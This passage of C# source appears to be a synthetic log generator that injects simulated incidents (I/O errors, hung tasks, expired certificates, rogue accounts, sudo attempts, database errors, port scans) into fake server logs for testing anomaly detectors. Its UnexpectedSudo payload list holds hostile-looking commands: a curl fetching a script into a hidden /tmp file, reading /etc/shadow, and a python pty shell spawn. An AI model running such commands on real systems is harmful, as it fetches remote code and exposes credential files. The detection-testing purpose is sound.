                H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"{(oldKernel ? "blk_update_request: " : "")}I/O error, dev {device}, sector {sector} {op} phys_seg 1 prio class 2"));
            }

            H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"Buffer I/O error on dev {partition}, logical block {sector / 8}, {(write ? "lost async page write" : "async page read")}"));
            if (R.Chance(0.3))
            {
                H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"EXT4-fs error (device {partition}): __ext4_find_entry:1682: inode #{R.Next(2, 90000)}: comm {H.AppProcess}: reading directory lblock 0"));
            }

            bursts++;
            t += R.Exponential(TimeSpan.FromSeconds(R.Between(2, 30)));
        }

        if (R.Chance(0.4))
        {
            H.Kern(t, $"EXT4-fs ({partition}): I/O error while writing superblock");
            H.Kern(t, $"EXT4-fs ({partition}): Remounting filesystem read-only");
        }

        return new Planned($"I/O errors on /dev/{device} ({bursts} bursts)", Needs(EntityRequirement.Either(("*", device), ("path", "/dev/" + device))))
        {
            Related = [new("*", partition), new("source", Rel("kern.log")), new("source", Rel("syslog"))],
        };
    }

    private Planned HungTask(DateTimeOffset t, TimeSpan room)
    {
        string disk = H.DataDisk.StartsWith("nvme", StringComparison.Ordinal) ? H.DataDisk + "p1" : H.DataDisk + "1";
        string task = R.Pick(["postgres", H.AppProcess, "jbd2/" + disk + "-8", "rsync"]);
        DateTimeOffset end = t + Duration(room, 2, 12);
        int reports = 0;
        bool first = true;
        while (t < end)
        {
            string name = first ? task : R.Pick(["kworker/u4:2", "postgres", "jbd2/" + disk + "-8", task]);
            first = false;
            int pid = R.Next(200, 90000);
            int seconds = 120 + (reports * 120) + R.Next(0, 3);
            H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"INFO: task {name}:{pid} blocked for more than {seconds} seconds."));
            H.Kern(t, $"      Not tainted {H.Kernel} {H.KernelBuild}");
            H.Kern(t, "\"echo 0 > /proc/sys/kernel/hung_task_timeout_secs\" disables this message.");
            H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"task:{name,-15} state:D stack:0     pid:{pid,-5} ppid:{R.Next(1, 900),-6} flags:0x00004000"));
            H.Kern(t, "Call Trace:");
            foreach (string frame in (string[])[" <TASK>", " __schedule+0x351/0xa20", " schedule+0x5d/0xe0", " io_schedule+0x42/0x70", " bit_wait_io+0xd/0x60", " __wait_on_bit+0x48/0x150", " out_of_line_wait_on_bit+0x8c/0xb0", " jbd2_journal_commit_transaction+0x16d4/0x1a20 [jbd2]", " kjournald2+0xab/0x270 [jbd2]", " kthread+0xe6/0x110", " ret_from_fork+0x2d/0x50", " </TASK>"])
            {
                H.Kern(t, frame);
            }

            reports++;
            t += TimeSpan.FromSeconds(120) + R.Millis(0, 3000);
        }

        return new Planned($"kernel hung task: {task} blocked in D state ({reports} reports)", Needs(EntityRequirement.Either(("process", task), ("*", task))))
        {
            Related = [new("*", disk), new("source", Rel("kern.log")), new("source", Rel("syslog")), new("process", "kworker/u4:2"), new("process", "postgres")],
        };
    }

    private Planned TlsExpired(DateTimeOffset t, TimeSpan room)
    {
        string domain = R.Pick(["payments.", "api.", "sso.", "shipping-api.", "invoices."]) + R.Pick(["partner.example", "stripe-proxy.example", "dhl-connect.example", "acme-pay.example"]);
        DateTimeOffset end = t + Duration(room, 10, 30);
        bool viaNginx = R.Chance(0.3);
        string expired = t.ToUniversalTime().AddHours(-R.Between(1, 20)).ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture);
        string upstreamIp = H.BackgroundAddress(0);
        while (t < end)
        {
            if (viaNginx)
            {
                string client = H.BackgroundAddress(0.2);
                H.NginxError(t, "error", $"upstream SSL certificate verify error: (10:certificate has expired) while SSL handshaking to upstream, client: {client}, server: {H.Domain}, request: \"POST /api/v1/checkout/payment HTTP/2.0\", upstream: \"https://{upstreamIp}:443/v1/charges\", host: \"{H.Domain}\"");
                H.Access(t, client, "POST", "/api/v1/checkout/payment", "HTTP/2.0", 502, 166, "https://" + H.Domain + "/", R.Pick(WebVocabulary.Browsers), 0.05);
            }
            else
            {
                string error = H.AppStyle switch
                {
                    AppLogStyle.Pino => $"request to https://{domain}/v1/charges failed, reason: certificate has expired",
                    AppLogStyle.Structlog => $"HTTPSConnectionPool(host='{domain}', port=443): Max retries exceeded with url: /v1/charges (Caused by SSLError(SSLCertVerificationError(1, '[SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed: certificate has expired (_ssl.c:1006)')))",
                    AppLogStyle.SerilogCompact => $"The SSL connection could not be established, see inner exception. The remote certificate is invalid because of errors in the certificate chain: NotTimeValid ({domain}:443)",
                    _ => $"Post \"https://{domain}/v1/charges\": tls: failed to verify certificate: x509: certificate has expired or is not yet valid: current time {t.ToUniversalTime():yyyy-MM-dd'T'HH:mm:ss'Z'} is after {expired}",
                };
                H.App(t, AppLevel.Error, "payment provider call failed: {Error}", ("Error", error));
            }

            t += R.Exponential(TimeSpan.FromSeconds(R.Between(4, 25)));
        }

        string reporter = viaNginx ? "nginx" : H.AppProcess;
        string reporterUnit = viaNginx ? "nginx.service" : H.AppUnit;
        return new Planned($"TLS certificate of {domain} expired: {(viaNginx ? "nginx's upstream handshakes" : "the app's calls")} fail", Needs(EntityRequirement.Either(("*", viaNginx ? upstreamIp : domain), ("*", domain), ("text", domain), ("unit", reporterUnit), ("process", reporter))))
        {
            Related = [new("source", Rel(H.AppLogPath)), new("source", Rel("nginx/error.log")), new("source", Rel("nginx/access.log")), new("unit", H.AppUnit)],
        };
    }

    // ---------------------------------------------------------------- accounts

    private Planned NewUser(DateTimeOffset t)
    {
        string name = R.Pick(["sysupd", "support2", "dbadmin", "nagios2", "admin2", "svc-backup", "ftpadmin", "mysql-adm", "test1", "oracle"]);
        int uid = R.Next(1002, 1010);
        string tty = "/dev/pts/" + R.Next(0, 4).ToString(CultureInfo.InvariantCulture);
        int pid = H.NextPid();
        if (R.Chance(0.5))
        {
            H.Auth(t, "groupadd", pid, string.Create(CultureInfo.InvariantCulture, $"group added to /etc/group: name={name}, GID={uid}"));
            H.Auth(t, "groupadd", pid, $"group added to /etc/gshadow: name={name}");
            H.Auth(t, "groupadd", pid, string.Create(CultureInfo.InvariantCulture, $"new group: name={name}, GID={uid}"));
            pid = H.NextPid();
        }
        else
        {
            H.Auth(t, "useradd", pid, string.Create(CultureInfo.InvariantCulture, $"new group: name={name}, GID={uid}"));
        }

        H.Auth(t + R.Millis(5, 30), "useradd", pid, string.Create(CultureInfo.InvariantCulture, $"new user: name={name}, UID={uid}, GID={uid}, home=/home/{name}, shell=/bin/bash, from={tty}"));
        if (R.Chance(0.6))
        {
            H.Auth(t + R.Millis(30, 60), "useradd", pid, $"add '{name}' to group 'sudo'");
            H.Auth(t + R.Millis(30, 60), "useradd", pid, $"add '{name}' to shadow group 'sudo'");
        }

        H.Auth(t + R.Seconds(3, 15), "passwd", H.NextPid(), $"pam_unix(passwd:chauthtok): password changed for {name}");
        if (R.Chance(0.5))
        {
            H.Auth(t + R.Seconds(16, 30), "chfn", H.NextPid(), $"changed user '{name}' information");
        }

        return new Planned($"new account {name} (uid {uid}) created from {tty}", Needs(EntityRequirement.Of("user", name)));
    }

    private Planned UnexpectedSudo(DateTimeOffset t)
    {
        var (user, uid) = R.Pick<(string, int)>([("www-data", 33), (H.AppUser, H.AppUid), ("postgres", 114), ("nobody", 65534)]);
        string pwd = user switch
        {
            "www-data" => "/var/www/html",
            "postgres" => "/var/lib/postgresql",
            "nobody" => "/",
            _ => "/srv/" + H.AppName,
        };
        string payload = R.Pick(["/bin/bash -c id", "/usr/bin/curl -fsSL http://" + H.BackgroundAddress(0) + "/x.sh -o /tmp/.x", "/bin/sh", "/usr/bin/cat /etc/shadow", "/usr/bin/python3 -c import pty;pty.spawn('/bin/bash')"]);
        int variant = R.Next(3);
        int attempts = R.Next(1, 4);
        for (int i = 0; i < attempts; i++)
        {
            DateTimeOffset at = t + TimeSpan.FromSeconds(i * R.Between(2, 20));
            switch (variant)
            {
                case 0:
                    H.Auth(at, "sudo", null, $"   {user} : user NOT in sudoers ; TTY=unknown ; PWD={pwd} ; USER=root ; COMMAND={payload}");
                    break;
                case 1:
                    kit.Ssh.Sudo(at, user, uid, "unknown", pwd, payload);
                    break;
                default:
                    int pid = H.NextPid();
                    H.Auth(at, "su", pid, string.Create(CultureInfo.InvariantCulture, $"pam_unix(su:auth): authentication failure; logname= uid={uid} euid=0 tty= ruser={user} rhost=  user=root"));
                    H.Auth(at + R.Seconds(2, 3), "su", pid, $"FAILED SU (to root) {user} on none");
                    break;
            }
        }

        string how = variant switch { 0 => "sudo refused (not in sudoers)", 1 => "sudo to root succeeds", _ => "su to root fails" };
        return new Planned($"{user} tries to become root: {how}, {attempts}×: {payload}", Needs(EntityRequirement.Of("user", user)));
    }

    // ---------------------------------------------------------------- database, firewall

    private Planned DatabaseErrors(DateTimeOffset t, TimeSpan room)
    {
        DateTimeOffset end = t + Duration(room, 2, 10);
        int variant = R.Next(3);
        string db = H.AppUser + "@" + H.AppUser;
        string reserved = H.PgVersion >= 16
            ? "remaining connection slots are reserved for roles with the SUPERUSER attribute"
            : "remaining connection slots are reserved for non-replication superuser connections";
        double perSecond = variant == 0 ? R.Between(2, 20) : R.Between(0.3, 3);
        string what = "";
        while (t < end)
        {
            int pid = R.Next(20_000, 400_000);
            switch (variant)
            {
                case 0:
                    string message = R.Chance(0.7) ? "sorry, too many clients already" : reserved;
                    H.Postgres(t, pid, "FATAL", message, db);
                    if (R.Chance(0.3))
                    {
                        H.App(t + R.Millis(1, 10), AppLevel.Error, "database error: {Error}", ("Error", message));
                    }

                    what = "connection slots exhausted (FATAL: sorry, too many clients already)";
                    break;
                case 1:
                    H.Postgres(t, pid, "ERROR", "deadlock detected", db);
                    H.Postgres(t, pid, "DETAIL", string.Create(CultureInfo.InvariantCulture, $"Process {pid} waits for ShareLock on transaction {R.Next(100000, 9000000)}; blocked by process {pid + 17}.\n\tProcess {pid + 17} waits for ShareLock on transaction {R.Next(100000, 9000000)}; blocked by process {pid}.\n\tProcess {pid}: UPDATE stock SET quantity = quantity - $1 WHERE product_id = $2\n\tProcess {pid + 17}: UPDATE stock SET quantity = quantity - $1 WHERE product_id = $2"), db);
                    H.Postgres(t, pid, "HINT", "See server log for query details.", db);
                    H.Postgres(t, pid, "CONTEXT", string.Create(CultureInfo.InvariantCulture, $"while updating tuple ({R.Next(0, 900)},{R.Next(1, 60)}) in relation \"stock\""), db);
                    H.Postgres(t, pid, "STATEMENT", "UPDATE stock SET quantity = quantity - $1 WHERE product_id = $2", db);
                    what = "deadlocks on table stock";
                    break;
                default:
                    H.Postgres(t, pid, "FATAL", $"password authentication failed for user \"{H.AppUser}\"", db);
                    H.Postgres(t, pid, "DETAIL", $"Connection matched file \"/etc/postgresql/{H.PgVersion}/main/pg_hba.conf\" line 128: \"host    all             all             127.0.0.1/32            scram-sha-256\"", db);
                    what = $"the app's database password is rejected (FATAL: password authentication failed for user \"{H.AppUser}\")";
                    break;
            }

            t += R.Exponential(TimeSpan.FromSeconds(1 / perSecond));
        }

        return new Planned($"PostgreSQL error burst: {what}", Needs(EntityRequirement.Either(("source", Rel(H.PgLogPath)), ("unit", H.PgUnit), ("unit", "postgresql.service"), ("process", "postgres"), ("process", "postgresql"))))
        {
            Related = [new("source", Rel(H.AppLogPath)), new("unit", H.AppUnit), new("user", H.AppUser)],
        };
    }

    private Planned FirewallSurge(DateTimeOffset t, TimeSpan room)
    {
        string ip = AttackerAddress(0.05);
        int packets = R.Next(1000, 6000);
        TimeSpan span = Duration(room, 1, 5);
        bool sequential = R.Chance(0.5);
        int port = R.Next(1, 1000);
        for (int i = 0; i < packets; i++)
        {
            DateTimeOffset at = t + TimeSpan.FromTicks(span.Ticks * i / packets);
            port = sequential ? (port % 65535) + 1 : R.Next(1, 65536);
            H.Kern(at, SystemChatter.FirewallDrop(H, R, ip, (port, false)));
        }

        return new Planned($"port scan from {ip}: {packets} packets dropped by the firewall in {span.TotalMinutes:F1} min", Needs(EntityRequirement.Of("ip", ip)));
    }

    // ---------------------------------------------------------------- learned-baseline incidents

    private Planned NewErrorBurst(DateTimeOffset t, TimeSpan room)
    {
        DateTimeOffset end = t + Duration(room, 3, 15);
        var (template, property, value) = R.Pick<(string, string, string)>(
        [
            ("cache backend unavailable: {Error}", "Error", "Redis connection to 127.0.0.1:6379 failed - connect ECONNREFUSED 127.0.0.1:6379"),
            ("failed to render invoice {InvoiceId}: {Error}", "Error", "template 'invoice_v2' not found in /srv/templates"),
            ("webhook signature mismatch for event {EventId} from {Provider}", "Provider", "payments"),
            ("search index query failed: {Error}", "Error", "index_not_found_exception: no such index [products_v7]"),
        ]);
        double perSecond = R.Between(0.5, 5);
        int count = 0;
        while (t < end)
        {
            H.App(t, AppLevel.Error, template, (property, value), ("InvoiceId", "INV-" + R.Next(10000, 99999).ToString(CultureInfo.InvariantCulture)), ("EventId", "evt_" + R.Alnum(14)));
            count++;
            t += R.Exponential(TimeSpan.FromSeconds(1 / perSecond));
        }

        return new Planned($"a never-seen error in {H.AppName}: \"{template}\" ×{count}", Needs(EntityRequirement.Either(("source", Rel(H.AppLogPath)), ("unit", H.AppUnit), ("process", H.AppProcess))))
        {
            Related = [new("source", Rel(H.AppLogPath))],
        };
    }

    private Planned CronStopped(DateTimeOffset t, TimeSpan room)
    {
        CronJob job = H.CronJobs.First(j => j.OutputProgram is not null && j.Period <= TimeSpan.FromMinutes(5));
        DateTimeOffset local = H.Local(t);
        DateTimeOffset firstMissed = local - TimeSpan.FromTicks(local.TimeOfDay.Ticks % job.Period.Ticks) + job.Period + job.Offset;
        DateTimeOffset end = firstMissed + Duration(room, 30, 90);
        H.Changes.Add(new BackgroundChange(BackgroundChangeKind.CronSkipped, job.Name, firstMissed, end));
        return new Planned($"cron job {job.Name} (every {job.Period.TotalMinutes:F0} min) stops running", Needs(EntityRequirement.Either(("text", job.Name))))
        {
            // Its PAM session lines in auth.log stop too: an alert about them is about the job.
            Related = [new("text", $"for user {job.User}(uid=")],
            Start = firstMissed,
            Begin = firstMissed,
            End = end,
        };
    }

    private Planned SourceSilent(DateTimeOffset t, TimeSpan room)
    {
        DateTimeOffset end = t + Duration(room, 20, 60);
        H.Changes.Add(new BackgroundChange(BackgroundChangeKind.Silence, H.WorkerLogPath, t, end));
        return new Planned($"the job worker hangs: {H.WorkerLogPath} goes silent", Needs(EntityRequirement.Either(("source", Rel(H.WorkerLogPath)), ("unit", H.WorkerUnit))))
        {
            Start = t,
            Begin = t,
            End = end,
        };
    }

    private Planned TemplateSpike(DateTimeOffset t, TimeSpan room)
    {
        DateTimeOffset end = t + Duration(room, 10, 30);
        double factor = R.Between(15, 30);
        if (R.Chance(0.5))
        {
            double perSecond = H.BufferedWarningsPerHour * factor / 3600;
            string client = H.BackgroundAddress(0.2);
            for (DateTimeOffset at = t; at < end; at += R.Exponential(TimeSpan.FromSeconds(1 / perSecond)))
            {
                kit.Web.BufferedWarning(at, R.Chance(0.5) ? client : H.BackgroundAddress(0.2));
            }

            return new Planned($"nginx's 'upstream response is buffered to a temporary file' at {factor:F0}× its rate", Needs(EntityRequirement.Either(("source", Rel("nginx/error.log")), ("text", "buffered to a temporary file"))))
            {
                Related = [new("source", Rel("nginx/access.log"))],
            };
        }

        // The worker's retry warning (1 % of jobs normally): an upstream starts throttling. At least a few a
        // minute, or a spike of a rare line takes longer to see than any detector should be given.
        double rate = Math.Max(0.01 * kit.Services.WorkerJobsPerMinute(t) * factor, 5) / 60;
        long job = 9_000_000;
        for (DateTimeOffset at = t; at < end; at += R.Exponential(TimeSpan.FromSeconds(1 / rate)))
        {
            H.Worker(at, AppLevel.Warn, "job {Queue}#{JobId} failed (attempt {Attempt} of 5), will retry: {Reason}",
                ("Queue", "webhooks"), ("JobId", job++), ("Attempt", R.Next(1, 5)), ("Reason", "HTTP 429 from upstream"));
        }

        double effective = rate * 60 / (0.01 * kit.Services.WorkerJobsPerMinute(t));
        return new Planned($"the worker's 'will retry' warning at {effective:F0}× its rate (an upstream throttles)", Needs(EntityRequirement.Either(("source", Rel(H.WorkerLogPath)), ("unit", H.WorkerUnit), ("text", "will retry"))));
    }

    private Planned VolumeShift(DateTimeOffset t, TimeSpan room)
    {
        DateTimeOffset end = t + Duration(room, 30, 60);

        // A drop is only a drop where there was traffic to lose; a surge brings at least a few visitors a minute.
        double visitors = kit.Web.SessionsPerMinute(t);
        bool surge = visitors < 1 || R.Chance(0.6);
        double factor = surge ? Math.Max(R.Between(4, 8), 4 / Math.Max(visitors, 0.01)) : R.Between(0.02, 0.15);
        H.Changes.Add(new BackgroundChange(BackgroundChangeKind.Traffic, "web", t, end, factor));
        if (surge)
        {
            // The newsletter went out: the first reader arrives at once.
            H.Access(t, H.BackgroundAddress(0.2), "GET", "/?utm_source=newsletter&utm_medium=email&utm_campaign=black-friday", "HTTP/2.0", 200, R.Next(4000, 30000), "https://mail.google.com/", R.Pick(WebVocabulary.Browsers), 0.004);
        }

        return new Planned($"web traffic {(surge ? "surges" : "drops")} to {factor:F2}× (a {(surge ? "newsletter campaign" : "DNS change that sends visitors elsewhere")})", Needs(EntityRequirement.Either(("source", Rel("nginx/access.log")), ("source", Rel(H.AppLogPath)))))
        {
            Related = [new("source", Rel("nginx/error.log"))],
            Start = t,
            Begin = t,
            End = end,
        };
    }

    /// <summary>A readable list of what an incident expects (for reports).</summary>
    public static string Describe(IReadOnlyList<EntityRequirement> expected)
    {
        var sb = new StringBuilder();
        foreach (EntityRequirement requirement in expected)
        {
            if (sb.Length > 0)
            {
                sb.Append(" & ");
            }

            sb.Append(requirement);
        }

        return sb.ToString();
    }
}
